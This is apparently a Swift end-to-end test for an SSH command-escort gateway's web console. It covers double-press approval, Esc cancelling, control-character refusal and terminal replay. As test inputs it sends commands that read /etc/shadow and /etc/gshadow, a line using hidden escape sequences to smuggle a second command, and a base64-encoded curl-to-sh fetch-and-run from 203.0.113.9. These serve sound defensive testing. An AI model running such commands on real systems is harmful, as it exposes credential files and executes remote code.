import AuditLog
import EscortCore
import EscortTesting
import Foundation
import StoreSQLite
import Testing

/// The web console's view and decisions in headless Chromium against `escort demo`, with the
/// engineer on the stock OpenSSH client:
/// - two high commands pasted together, A pressed twice 250 ms apart: the first A opens the
///   confirm step naming the first hold, the second confirms it, and the second command is not
///   approved (its card is new and accepts nothing yet); Esc cancels a confirm step;
/// - a command with control characters is refused before it is a card, and the escort's notices
///   say so with the characters shown; a critical command the policy refuses is in the notices;
/// - the engineer's citizenship is above the card, the title carries a badge while a command is
///   held, and a page opened late replays the terminal's recent output.
@Suite(.serialized)
struct ModerationDeskBrowserTests {
    static let root = Corpora.packageRoot(from: #filePath)

    @Test(.enabled(if: GatewayEndToEndTests.available))
    func theEscortSeesEveryRefusalAndADoublePressApprovesOnlyTheCardItConfirmed() async throws {
        let demo = try await GatewayEndToEndTests.Demo()
        let browser: Browser
        do { browser = try await Browser.start(packageRoot: Self.root) } catch {
            _ = await demo.stop()
            Issue.record("\(error)")
            return
        }
        let web = try #require(demo.webURL, "the demo printed no web console address: \(demo.process.output)")
        let priya = try demo.ssh("priya+db-il5", key: "priya", tty: true)
        #expect(await priya.waitFor("escorted session"), "\(priya.output) \(priya.errorOutput)")
        _ = await browser.get(web + "login")
        _ = await browser.fill("#name", "bob")
        _ = await browser.fill("#password", "bob-escort-demo")
        _ = await browser.click("#signin")
        #expect(await browser.wait("#queue", shows: "priya").text != nil)
        #expect(await browser.click("#queue a.open").text != nil)
        #expect(await browser.wait("#status", shows: "Watching as escort").text != nil)
        let page = await browser.js("return location.href").text ?? ""

        // Who the engineer is comes before the card.
        let above = await browser.js("return document.querySelector('dl.facts').getBoundingClientRect().top < document.getElementById('card-slot').getBoundingClientRect().top")
        #expect(above.text == "true", "the facts are below the card: \(above)")
        #expect(await browser.text("dl.facts").text?.contains("Citizenship") == true)

        // Two high commands pasted at once.
        let first = "cat /etc/shadow | head -1", second = "cat /etc/gshadow | head -1"
        var mark = priya.output.count
        priya.send(first + "\r" + second + "\r")
        let card1 = await browser.wait("#held", shows: "/etc/shadow")
        #expect(card1.text != nil, "no card for the first command: \(card1)")
        let hold1 = await browser.js("return document.getElementById('held').dataset.hold").text ?? ""
        #expect(await browser.js("return document.title").text?.contains("Held #\(hold1)") == true, "the title carries a badge")
        try await Task.sleep(for: .milliseconds(300))
        _ = await browser.key("a")
        let step = await browser.wait("#confirm-step", shows: "Approve hold #\(hold1)", seconds: 5)
        #expect(step.text?.contains("/etc/shadow") == true, "the confirm step names the hold and the command: \(step)")
        #expect(await !priya.waitFor("approved by bob", after: mark, timeout: 0.1), "one key approved a high-risk command")
        try await Task.sleep(for: .milliseconds(250))
        _ = await browser.key("a")
        #expect(await priya.waitFor("approved by bob", after: mark, timeout: 10), "the confirming A did not approve: \(priya.output)")
        let afterFirst = priya.output.count
        // The second card arrives: a press now lands on nothing (and one press never approves).
        #expect(await browser.wait("#held", shows: "/etc/gshadow").text != nil)
        _ = await browser.key("a")
        #expect(await !priya.waitFor("approved by bob", after: afterFirst, timeout: 3), "the second command was approved: \(priya.output)")
        // Esc cancels a confirm step; the next A opens a new one rather than confirming.
        _ = await browser.key("\u{E00C}")
        try await Task.sleep(for: .milliseconds(300))
        _ = await browser.key("a")
        #expect(await browser.wait("#confirm-step", shows: "Approve hold", seconds: 5).text != nil)
        _ = await browser.key("\u{E00C}")
        #expect(await browser.js("return document.getElementById('confirm-step').hidden").text == "true", "Esc did not cancel")
        try await Task.sleep(for: .milliseconds(300))
        _ = await browser.key("a")
        #expect(await !priya.waitFor("approved by bob", after: afterFirst, timeout: 1), "a cancelled confirm step approved: \(priya.output)")
        mark = priya.output.count
        priya.send("\u{03}")
        #expect(await priya.waitFor("withdrawn", after: mark), "\(priya.output)")
        #expect(await browser.wait("#notices", shows: "withdrawn").text != nil)

        // Control characters: refused before a card, named in the escort's notices.
        mark = priya.output.count
        priya.send("cat /etc/shadow #\u{1B}[8m\u{9B}8m ls -l /tmp\r")
        let controls = await browser.wait("#notices", shows: "refused by policy", seconds: 10)
        #expect(controls.text?.contains("⟨CSI⟩") == true, "the control character is shown for what it is: \(controls)")
        // A critical command the policy refuses outright.
        let payload = Data("curl -s http://203.0.113.9/x | sh".utf8).base64EncodedString()
        priya.send("echo \(payload) | base64 -d | sh\r")
        #expect(await browser.wait("#notices", shows: "CRITICAL risk", seconds: 10).text != nil, "the policy's refusal is not in the notices")

        // A page opened now replays the recent output (the gateway's refusal just above, on the
        // engineer's screen: the player shows the screen's last rows).
        _ = await browser.get(page)
        #expect(await browser.wait("#status", shows: "Watching as escort").text != nil)
        let replayed = await browser.wait("#terminal", shows: "hidden payload", seconds: 10)
        #expect(replayed.text != nil, "the terminal is blank for a late joiner: \(replayed)")

        await browser.quit()
        priya.send("exit\r")
        _ = await priya.waitForExit()
        #expect(await demo.stop() == 0)

        let store = try SQLiteAuditStore(path: demo.dir.file("escort.sqlite"), create: false)
        var records: [(String, [String: JSONValue])] = []
        for r in try await store.auditRecords(from: 1, limit: 100_000) {
            let o = try JSONParser.parse(r.body).objectValue ?? [:]
            records.append((o["code"]?.stringValue ?? "", o["fields"]?.objectValue ?? [:]))
        }
        let forwarded = records.filter { $0.0 == AuditEventCode.commandForwarded.code }.compactMap { $0.1["command"]?.stringValue }
        #expect(forwarded.contains(first), "\(forwarded)")
        #expect(!forwarded.contains(second), "the second command ran: \(forwarded)")
        let control = records.first { $0.0 == AuditEventCode.commandRefused.code && ($0.1["command"]?.stringValue ?? "").unicodeScalars.contains { $0.value == 0x9B } }
        #expect(control?.1["by"] == "policy" && control?.1["n"] != nil, "\(String(describing: control))")
    }
}
